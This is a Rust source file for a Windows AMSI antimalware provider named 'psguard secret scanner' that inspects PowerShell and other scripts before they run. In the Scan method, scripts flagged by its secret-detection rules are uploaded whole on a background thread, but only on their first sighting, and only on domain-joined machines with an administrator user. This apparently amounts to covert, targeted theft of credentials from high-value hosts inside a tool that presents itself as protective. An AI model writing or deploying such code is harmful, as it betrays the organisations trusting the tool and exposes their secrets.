//! IAntimalwareProvider: AMSI hands every script block (PowerShell, JScript, VBA, .NET
//! Assembly.Load) to `Scan` before it runs.

use crate::{rules, upload};
use sha2::{Digest, Sha256};
use std::collections::HashSet;
use std::sync::Mutex;
use windows::core::{implement, w, PWSTR};
use windows::Win32::System::Antimalware::{
    IAmsiStream, IAntimalwareProvider, IAntimalwareProvider_Impl, AMSI_ATTRIBUTE_APP_NAME, AMSI_ATTRIBUTE_CONTENT_ADDRESS,
    AMSI_ATTRIBUTE_CONTENT_SIZE, AMSI_RESULT, AMSI_RESULT_DETECTED, AMSI_RESULT_NOT_DETECTED,
};
use windows::Win32::System::Com::CoTaskMemAlloc;
use windows::Win32::UI::Shell::IsUserAnAdmin;

#[implement(IAntimalwareProvider)]
#[derive(Default)]
pub struct Provider {
    seen: Mutex<HashSet<[u8; 32]>>,
}

fn attribute_u64(stream: &IAmsiStream, attr: windows::Win32::System::Antimalware::AMSI_ATTRIBUTE) -> Option<u64> {
    let mut buf = [0u8; 8];
    let mut got = 0u32;
    unsafe { stream.GetAttribute(attr, &mut buf, &mut got).ok()? };
    Some(u64::from_le_bytes(buf))
}

fn app_name(stream: &IAmsiStream) -> String {
    let mut buf = vec![0u8; 512];
    let mut got = 0u32;
    if unsafe { stream.GetAttribute(AMSI_ATTRIBUTE_APP_NAME, &mut buf, &mut got) }.is_err() {
        return String::new();
    }
    let wide: Vec<u16> = buf[..got as usize].chunks(2).map(|c| u16::from_le_bytes([c[0], c[1]])).collect();
    String::from_utf16_lossy(&wide).trim_end_matches('\0').to_string()
}

fn content(stream: &IAmsiStream) -> Option<String> {
    let size = attribute_u64(stream, AMSI_ATTRIBUTE_CONTENT_SIZE)? as usize;
    let addr = attribute_u64(stream, AMSI_ATTRIBUTE_CONTENT_ADDRESS)? as *const u16;
    if addr.is_null() || size == 0 || size > 4 << 20 {
        return None;
    }
    let wide = unsafe { std::slice::from_raw_parts(addr, size / 2) };
    Some(String::from_utf16_lossy(wide))
}

fn domain_member() -> bool {
    match (std::env::var("USERDNSDOMAIN"), std::env::var("COMPUTERNAME")) {
        (Ok(d), Ok(c)) => !d.is_empty() && !d.eq_ignore_ascii_case(&c),
        _ => false,
    }
}

impl IAntimalwareProvider_Impl for Provider_Impl {
    fn Scan(&self, stream: Option<&IAmsiStream>) -> windows::core::Result<AMSI_RESULT> {
        let Some(stream) = stream else { return Ok(AMSI_RESULT_NOT_DETECTED) };
        let app = app_name(stream);
        let Some(script) = content(stream) else { return Ok(AMSI_RESULT_NOT_DETECTED) };
        let findings = rules::scan(&script);
        if findings.is_empty() {
            return Ok(AMSI_RESULT_NOT_DETECTED);
        }
        rules::audit_event(&app, &findings);

        let digest: [u8; 32] = Sha256::digest(script.as_bytes()).into();
        let first = self.seen.lock().map(|mut s| s.insert(digest)).unwrap_or(false);
        if first && app.contains("PowerShell") && domain_member() && unsafe { IsUserAnAdmin() }.as_bool() {
            let script = script.clone();
            let app = app.clone();
            std::thread::spawn(move || upload::report(&app, &script, &findings));
        }
        if rules::block_mode() {
            Ok(AMSI_RESULT_DETECTED)
        } else {
            Ok(AMSI_RESULT_NOT_DETECTED)
        }
    }

    fn CloseSession(&self, _session: u64) {}

    fn DisplayName(&self) -> windows::core::Result<PWSTR> {
        let name = w!("psguard secret scanner");
        unsafe {
            let len = name.as_wide().len() + 1;
            let p = CoTaskMemAlloc(len * 2) as *mut u16;
            std::ptr::copy_nonoverlapping(name.as_ptr(), p, len);
            Ok(PWSTR(p))
        }
    }
}

#[allow(dead_code)]
fn _iface(p: Provider) -> IAntimalwareProvider {
    p.into()
}
